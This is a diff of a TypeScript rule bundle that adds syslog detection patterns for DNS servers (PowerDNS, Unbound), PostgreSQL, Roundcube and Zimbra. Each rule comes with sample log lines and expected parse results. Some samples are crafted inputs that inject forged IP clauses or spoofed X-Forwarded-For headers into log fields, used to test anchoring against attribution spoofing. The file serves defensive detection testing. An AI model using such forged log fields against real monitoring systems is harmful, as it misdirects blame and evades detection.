+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.101",
+                  "Port": [
+                    40000
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns[4661]: AXFR-out zone 'example.com', client '192.0.2.2:41234', allowed: client IP is in allow-axfr-ips",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "pdns.xfr-failed-not-allowed",
+        "programs": [
+          "pdns",
+          "pdns_server"
+        ],
+        "requires": ", failed: client may not request ",
+        "pattern": "^(?<kind>AXFR|IXFR)-out zone '(?<zone>.{1,1100})', client '(?<host>\\[(?<ip6>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3}):(?<port4>\\d{1,5}))', failed: client may not request (?:AXFR|IXFR)$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "DNS zone transfer ({kind}) of {zone} from {host} not allowed",
+        "source": {
+          "address": "{ip6}{ip4}",
+          "port": "{port6}{port4}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns_server[4661]: AXFR-out zone 'example.com', client '198.51.100.102:41234', failed: client may not request AXFR",
+            "expect": {
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "198.51.100.102",
+                  "Port": [
+                    41234
+                  ]
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "pdns.axfr-denied-legacy",
+        "programs": [
+          "pdns",
+          "pdns_server"
+        ],
+        "requires": "AXFR of domain '",
+        "pattern": "^AXFR of domain '(?<zone>.{1,1100})' denied(?:: client IP (?<ip>[0-9A-Fa-f:.]{2,45}) has no permission| to (?<ip2>[0-9A-Fa-f:.]{2,45}))$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Medium",
+        "description": "DNS zone transfer (AXFR) of {zone} from {ip}{ip2} refused",
+        "source": {
+          "address": "{ip}{ip2}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Feb 16 15:46:18 ns1 pdns[4661]: AXFR of domain 'example.com' denied: client IP 198.51.100.103 has no permission",
+            "expect": {
+              "Priority": "Medium",
+              "Description": "DNS zone transfer (AXFR) of example.com from 198.51.100.103 refused",
+              "Source": [
+                {
+                  "IP": "198.51.100.103"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Feb 16 15:46:18 ns1 pdns[4661]: AXFR of domain 'example.com' denied to 2001:db8::103",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::103"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Feb 16 15:46:18 ns1 pdns[4661]: AXFR of domain 'x' denied: client IP 10.1.1.1 has no permission' denied: client IP 198.51.100.104 has no permission",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.104"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Feb 16 15:46:18 ns1 pdns[4661]: AXFR of domain 'example.com' initiated by 192.0.2.2",
+            "expect": null
+          },
+          {
+            "line": "Feb 16 15:46:18 ns1 pdns[4661]: AXFR of domain 'example.com' allowed: client IP 192.0.2.2 is in allow-axfr-ips",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "pdns.update-refused",
+        "programs": [
+          "pdns",
+          "pdns_server"
+        ],
+        "requires": ". Sending REFUSED",
+        "pattern": "^UPDATE \\(\\d{1,5}\\) from (?<ip>[0-9A-Fa-f:.]{2,45})(?::\\d{1,5})? for (?<zone>.{1,1100}): (?<why>Remote not listed in allow-(?:dnsupdate|2136)-from or domainmetadata|TSIG key required, but packet does not contain key|TSIG key \\([^()]{0,255}\\) required, but no matching key found in domainmetadata, tried \\d{1,5})\\. Sending REFUSED$",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Medium",
+        "description": "DNS update of {zone} from {ip} refused: {why}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns_server[4661]: UPDATE (43210) from 198.51.100.107 for example.com: Remote not listed in allow-dnsupdate-from or domainmetadata. Sending REFUSED",
+            "expect": {
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Priority": "Medium",
+              "Description": "DNS update of example.com from 198.51.100.107 refused: Remote not listed in allow-dnsupdate-from or domainmetadata",
+              "Source": [
+                {
+                  "IP": "198.51.100.107"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns[4661]: UPDATE (7) from 2001:db8::107 for example.net: TSIG key required, but packet does not contain key. Sending REFUSED",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::107"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns[4661]: UPDATE (7) from 192.0.2.2 for example.net: Processing started.",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "pdns.unexpected-notify",
+        "programs": [
+          "pdns",
+          "pdns_server"
+        ],
+        "requires": "Received NOTIFY for ",
+        "pattern": "^Received NOTIFY for (?<zone>.{1,1100}) from (?<ip>[0-9A-Fa-f:.]{2,45})(?::\\d{1,5})? (?:which is not a (?:master|primary)|for which we are not authoritative)(?: \\(Refused\\))?$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "Unexpected DNS NOTIFY for {zone} from {ip} refused",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Feb 16 15:46:18 ns2 pdns[4661]: Received NOTIFY for example.com from 198.51.100.108 which is not a master",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "198.51.100.108"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Feb 16 15:46:18 ns2 pdns[4661]: Received NOTIFY for x from 10.1.1.1 which is not a primary from 198.51.100.109 which is not a primary",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.109"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Feb 16 15:46:18 ns2 pdns[4661]: Received NOTIFY for example.com from 172.25.87.201 but slave support is disabled in the configuration",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "pdns.recursor-allow-from",
+        "programs": [
+          "pdns_recursor",
+          "pdns-recursor"
+        ],
+        "requires": "not matched by allow-from",
+        "pattern": "^(?:\\[\\d{1,10}\\] )?[Dd]ropping (?<proto>UDP|TCP) query from (?<ip>[0-9A-Fa-f:.]{2,45}), address not matched by allow-from$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "DNS {proto} query from {ip} dropped: address not in allow-from",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns pdns_recursor[812]: [1] dropping UDP query from 198.51.100.105, address not matched by allow-from",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Description": "DNS UDP query from 198.51.100.105 dropped: address not in allow-from",
+              "Source": [
+                {
+                  "IP": "198.51.100.105"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns pdns-recursor[812]: [2] dropping TCP query from 2001:db8::105, address not matched by allow-from",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::105"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "pdns.recursor-allow-from-structured",
+        "programs": [
+          "pdns_recursor",
+          "pdns-recursor"
+        ],
+        "requires": "not matched by allow-from",
+        "pattern": "^msg=\"Dropping (?<proto>UDP|TCP) query, address not matched by allow-from\"(?: [a-z]{1,16}=\"[^\"]{0,256}\"){0,12} (?:remote|source)=\"(?<host>\\[(?<ip6>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3}):(?<port4>\\d{1,5})|(?<ip>[0-9A-Fa-f:.]{2,45}))\"",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "DNS {proto} query from {host} dropped: address not in allow-from",
+        "source": {
+          "address": "{ip6}{ip4}{ip}",
+          "port": "{port6}{port4}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns pdns-recursor[812]: msg=\"Dropping TCP query, address not matched by allow-from\" subsystem=\"in\" level=\"0\" prio=\"Error\" tid=\"3\" ts=\"1704888000.123\" remote=\"198.51.100.106:51234\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.106",
+                  "Port": [
+                    51234
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns pdns-recursor[812]: msg=\"Dropping UDP query, address not matched by allow-from\" subsystem=\"in\" level=\"0\" prio=\"Error\" tid=\"3\" ts=\"1704888000.123\" source=\"[2001:db8::106]:5353\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::106",
+                  "Port": [
+                    5353
+                  ]
+                }
+              ]
+            }
+          }
+        ]
+      }
+    ]
+  },
+  {
     "file": "src/converters/syslog/rules/perdition.yaml",
     "rules": [
       {
@@ -20223,7 +22310,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "postmaster"
         ],
         "requires": " authentication failed for user \"",
-        "pattern": "(?:^|[ \\]])FATAL: {1,2}(?<method>[A-Za-z0-9-]{2,16}) authentication failed for user \"(?<user>.{0,256})\"$",
+        "pattern": "(?:^|[ \\]:])FATAL: {1,2}(?<method>[A-Za-z0-9-]{2,16}) authentication failed for user \"(?<user>.{0,256})\"$",
         "category": [
           "Access.Forced"
         ],
@@ -20253,6 +22340,16 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "line": "Jan 10 12:00:00 db3 postgres[2345]: FATAL:  Ident authentication failed for user \"web\"",
             "expect": {
               "Description": "PostgreSQL Ident authentication failed for user \"web\""
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 db3 postgres[2346]: 2024-01-10 12:00:00 UTC:198.51.100.32(50000):admin@postgres:[2346]:FATAL:  password authentication failed for user \"admin\"",
+            "expect": {
+              "Target": [
+                {
+                  "User": "admin"
+                }
+              ]
             }
           },
           {
@@ -20303,7 +22400,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "postmaster"
         ],
         "requires": "pg_hba.conf ",
-        "pattern": "(?:^|[ \\]])FATAL: {1,2}(?:no pg_hba\\.conf entry for|pg_hba\\.conf rejects connection for) (?:replication connection from )?host \"(?<ip>[0-9A-Fa-f:.]{2,45})\", user \"(?<user>[^\"]{0,256})\"",
+        "pattern": "(?:^|[ \\]:])FATAL: {1,2}(?:no pg_hba\\.conf entry for|pg_hba\\.conf rejects connection for) (?:replication connection from )?host \"(?<ip>[0-9A-Fa-f:.]{2,45})\", user \"(?<user>[^\"]{0,256})\"",
         "category": [
           "Access.Unauthorized"
         ],
@@ -20342,7 +22439,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "postmaster"
         ],
         "requires": " does not exist",
-        "pattern": "(?:^|[ \\]])FATAL: {1,2}role \"(?<user>.{0,256})\" does not exist$",
+        "pattern": "(?:^|[ \\]:])FATAL: {1,2}role \"(?<user>.{0,256})\" does not exist$",
         "category": [
           "Access.Forced"
         ],
@@ -20377,7 +22474,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "postmaster"
         ],
         "requires": "connection received: host=",
-        "pattern": "(?:^|[ \\]])LOG: {1,2}connection received: host=(?<ip>[0-9A-Fa-f:.]{2,45})(?: port=(?<port>\\d{1,5}))?$",
+        "pattern": "(?:^|[ \\]:])LOG: {1,2}connection received: host=(?<ip>[0-9A-Fa-f:.]{2,45})(?: port=(?<port>\\d{1,5}))?$",
         "alert": false,
         "remember": {
           "address": "{ip}",
@@ -22136,6 +24233,71 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     "file": "src/converters/syslog/rules/roundcube.yaml",
     "rules": [
       {
+        "id": "roundcube.imap-login-failed-proxied",
+        "programs": [
+          "roundcube",
+          "roundcubemail",
+          "rcube"
+        ],
+        "pattern": "^(?:\\[\\d{1,2}-[A-Za-z]{3}-\\d{4} \\d\\d:\\d\\d:\\d\\d(?: [+-]\\d{4})?\\]:? )?(?:<[0-9A-Za-z]{1,64}> )?IMAP Error: Login failed for (?<user>[^ ]{0,256})(?: against (?<server>\\S{1,255}))? from (?<proxy>127(?:\\.\\d{1,3}){3}|10(?:\\.\\d{1,3}){3}|192\\.168(?:\\.\\d{1,3}){2}|172\\.(?:1[6-9]|2\\d|3[01])(?:\\.\\d{1,3}){2}|::1|::ffff:127(?:\\.\\d{1,3}){3}|[Ff][CcDd][0-9A-Fa-f]{0,2}:[0-9A-Fa-f:]{1,40})\\((?:X-Real-IP: (?<xri>[0-9A-Fa-f:.]{2,45})|(?:X-Real-IP: [0-9A-Fa-f:.]{2,45},)?X-Forwarded-For: (?:[0-9A-Fa-f:.]{2,45}, ?){0,16}(?<xff>[0-9A-Fa-f:.]{2,45}))\\)\\. (?!Could not connect)",
+        "requires": "Login failed for ",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Roundcube login as {user} failed from {xff}{xri} (through the proxy {proxy})",
+        "source": {
+          "address": "{xff}{xri}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "roundcube"
+        },
+        "samples": [
+          {
+            "line": "[15-Jan-2024 12:00:00 +0100]: <abc123> IMAP Error: Login failed for bob against localhost from 127.0.0.1(X-Forwarded-For: 192.0.2.178). AUTHENTICATE PLAIN: Authentication failed. in /var/www/roundcube/program/lib/Roundcube/rcube_imap.php on line 200 (POST /?_task=login&_action=login)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.178"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob",
+                  "Service": "roundcube"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "Jan 22 22:28:21 web roundcube: IMAP Error: Login failed for eve against imap from 10.0.0.2(X-Real-IP: 192.0.2.179,X-Forwarded-For: 6.6.6.6, 192.0.2.179). Invalid credentials in rcube_imap.php on line 200 (POST /?_task=login&_action=login)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.179"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 22 22:28:21 web roundcube: IMAP Error: Login failed for eve from ::1(X-Real-IP: 2001:db8::17a). Invalid credentials in rcube_imap.php on line 200 (POST /?_task=login&_action=login)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::17a"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 22 22:28:21 web roundcube: IMAP Error: Login failed for eve from 192.0.2.190(X-Forwarded-For: 6.6.6.6). Invalid credentials in rcube_imap.php on line 200 (POST /)",
+            "expect": null
+          }
+        ]
+      },
+      {
         "id": "roundcube.imap-login-failed",
         "programs": [
           "roundcube",
@@ -22202,6 +24364,41 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           {
             "line": "Jan 22 22:28:21 web roundcube: IMAP Error: Login failed for dave from 192.0.2.173. Could not connect to ssl://imap.example.org:993: Connection refused in /x.php on line 1 (POST /?_task=login&_action=login)",
             "expect": null
+          }
+        ]
+      },
+      {
+        "id": "roundcube.failed-login-proxied",
+        "programs": [
+          "roundcube",
+          "roundcubemail",
+          "rcube"
+        ],
+        "pattern": "^(?:\\[\\d{1,2}-[A-Za-z]{3}-\\d{4} \\d\\d:\\d\\d:\\d\\d(?: [+-]\\d{4})?\\]:? )?(?:<[0-9A-Za-z]{1,64}> )?(?:Failed|FAILED) login for (?<user>[^ ]{0,256}) from (?<proxy>127(?:\\.\\d{1,3}){3}|10(?:\\.\\d{1,3}){3}|192\\.168(?:\\.\\d{1,3}){2}|172\\.(?:1[6-9]|2\\d|3[01])(?:\\.\\d{1,3}){2}|::1|::ffff:127(?:\\.\\d{1,3}){3}|[Ff][CcDd][0-9A-Fa-f]{0,2}:[0-9A-Fa-f:]{1,40})\\((?:X-Real-IP: (?<xri>[0-9A-Fa-f:.]{2,45})|(?:X-Real-IP: [0-9A-Fa-f:.]{2,45},)?X-Forwarded-For: (?:[0-9A-Fa-f:.]{2,45}, ?){0,16}(?<xff>[0-9A-Fa-f:.]{2,45}))\\)(?: in session (?<session>\\S{1,128})(?: \\(error: (?<err>-?\\d{1,6})\\))?)?$",
+        "requires": " login for ",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Low",
+        "description": "Roundcube login as {user} failed from {xff}{xri} (through the proxy {proxy})",
+        "source": {
+          "address": "{xff}{xri}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "roundcube"
+        },
+        "samples": [
+          {
+            "line": "[15-Jan-2024 12:00:00 +0100]: <abc123> Failed login for bob from 172.17.0.1(X-Forwarded-For: 192.0.2.191) in session abc123 (error: 0)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.191"
+                }
+              ],
+              "Priority": "Low"
+            }
           }
         ]
       },
@@ -27149,6 +29346,192 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     ]
   },
   {
+    "file": "src/converters/syslog/rules/unbound.yaml",
+    "rules": [
+      {
+        "id": "unbound.ip-ratelimit",
+        "programs": [
+          "unbound"
+        ],
+        "requires": "ip_ratelimit exceeded ",
+        "pattern": "^(?:\\[\\d{1,10}:[0-9a-f]{1,8}\\] )?(?:[a-z]{3,8}: )?ip_ratelimit exceeded (?<ip>[0-9A-Fa-f:.]{2,45}) (?<limit>\\d{1,10})(?:\\(cookie\\))? (?:\\(no query name\\)|(?<query>[^ ]{1,1100}) (?<class>[A-Z0-9]{1,10}) (?<type>[A-Z0-9]{1,12}))$",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Low",
+        "description": "DNS client {ip} exceeded the per-address query limit ({limit} per second)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] notice: ip_ratelimit exceeded 198.51.100.90 100 example.com. IN A",
+            "expect": {
+              "Category": [
+                "Availability.DoS"
+              ],
+              "Priority": "Low",
+              "Description": "DNS client 198.51.100.90 exceeded the per-address query limit (100 per second)",
+              "Source": [
+                {
+                  "IP": "198.51.100.90"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "domain"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns unbound[1234]: [1234:1] info: ip_ratelimit exceeded 2001:db8::90 50(cookie) ?x.example.net. IN ANY",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::90"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] notice: ip_ratelimit exceeded 198.51.100.91 100 (no query name)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.91"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[1704888000] unbound[1234:0] notice: ip_ratelimit exceeded 198.51.100.92 100 example.org. IN TXT",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.92"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "unbound.zone-ratelimit",
+        "programs": [
+          "unbound"
+        ],
+        "requires": "ratelimit exceeded ",
+        "pattern": "^(?:\\[\\d{1,10}:[0-9a-f]{1,8}\\] )?(?:[a-z]{3,8}: )?ratelimit exceeded (?<zone>[^ ]{1,1100}) (?<limit>\\d{1,10}) query (?<query>[^ ]{1,1100}) (?<class>[A-Z0-9]{1,10}) (?<type>[A-Z0-9]{1,12})(?: from (?<ip>[0-9A-Fa-f:.]{2,45}))?$",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Low",
+        "description": "DNS queries for zone {zone} exceeded the upstream rate limit ({limit} per second), last query {query} {type}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] notice: ratelimit exceeded example.com. 1000 query abc123.example.com. IN A from 198.51.100.93",
+            "expect": {
+              "Category": [
+                "Availability.DoS"
+              ],
+              "Priority": "Low",
+              "Description": "DNS queries for zone example.com. exceeded the upstream rate limit (1000 per second), last query abc123.example.com. A",
+              "Source": [
+                {
+                  "IP": "198.51.100.93"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] info: ratelimit exceeded example.com. 1000 query abc123.example.com. IN A",
+            "expect": {
+              "Priority": "Low"
+            }
+          }
+        ]
+      },
+      {
+        "id": "unbound.refused-query",
+        "programs": [
+          "unbound"
+        ],
+        "requires": "refused query from ",
+        "pattern": "^(?:\\[\\d{1,10}:[0-9a-f]{1,8}\\] )?(?:[a-z]{3,8}: )?refused query from (?:ip[46] )?(?<ip>[0-9A-Fa-f:.]{2,45}) port (?<port>\\d{1,5})(?: \\(len \\d{1,3}\\))?$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "DNS query from {ip} refused by the access control",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] debug: refused query from ip4 198.51.100.94 port 41234 (len 16)",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "198.51.100.94",
+                  "Port": [
+                    41234
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] debug: refused query from 2001:db8::94 port 53",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::94",
+                  "Port": [
+                    53
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns unbound: [1234:0] info: 198.51.100.94 example.com. A IN",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "unbound",
+      "description": "Unbound log file (logfile: in unbound.conf)",
+      "syslogTags": [
+        "unbound"
+      ],
+      "lines": [
+        {
+          "prefix": "^\\[\\d{9,11}\\] unbound\\[(?<pid>\\d{1,10}):[0-9a-f]{1,8}\\] (?=[a-z]{3,8}: )"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/uw-imap.yaml",
     "rules": [
       {
@@ -28524,6 +30907,62 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "May  8 16:34:14 mail zimbra: 2012-05-08 16:34:14,118 INFO  [qtp1-1:https://mail/service/soap/AuthRequest] [name=dave@example.org;ip=192.0.2.184;ua=zclient/8.8.15;] security - cmd=Auth; account=dave@example.org; protocol=soap;",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "zimbra.auth-failed-unnamed",
+        "programs": [
+          "zimbra",
+          "mailboxd",
+          "zmmailboxd",
+          "zimbra-audit"
+        ],
+        "pattern": "^(?:\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d,\\d{3} )?(?:WARN|INFO|ERROR|DEBUG) {1,3}\\[[^\\]]{0,300}\\] \\[ip=(?:[0-9A-Fa-f:.]{2,45};oip=(?<oip>[0-9A-Fa-f:.]{2,45})|(?<ip>[0-9A-Fa-f:.]{2,45})(?!;oip=));[^\\]]{0,1000}\\] security - cmd=(?<cmd>Auth|AdminAuth|PreAuth|AuthRequest); account=(?<user>[^;]{0,256}); (?:protocol=(?<proto>[a-z0-9]{1,20}); )?(?:[a-z]{1,20}=[^;]{0,200}; ){0,6}error=(?<reason>[^;]{0,300});",
+        "requires": "security - cmd=",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Zimbra {cmd} as {user} failed from {oip}{ip}: {reason}",
+        "source": {
+          "address": "{oip}{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "zimbra"
+        },
+        "samples": [
+          {
+            "line": "2019-01-01 12:00:00,123 INFO  [ImapSSLServer-12] [ip=10.0.0.5;oip=192.0.2.187;via=10.0.0.5(nginx/1.20.0-zimbra);ua=Zimbra/8.8.15_GA_4177;cid=42;] security - cmd=Auth; account=erin@example.org; protocol=imap; error=authentication failed for [erin@example.org], invalid password;",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.187"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "erin@example.org",
+                  "Service": "zimbra"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "May  8 16:34:14 mail mailboxd[2020]: INFO  [Pop3Server-3] [ip=192.0.2.188;] security - cmd=Auth; account=frank@example.org; protocol=pop3; error=authentication failed for [frank@example.org], account not found;",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.188"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2019-01-01 12:00:00,123 INFO  [ImapSSLServer-12] [ip=10.0.0.5;oip=192.0.2.189;via=10.0.0.5(nginx/1.20.0-zimbra);ua=Zimbra/8.8.15_GA_4177;] security - cmd=Auth; account=erin@example.org; protocol=imap;",
             "expect": null
           }
         ]
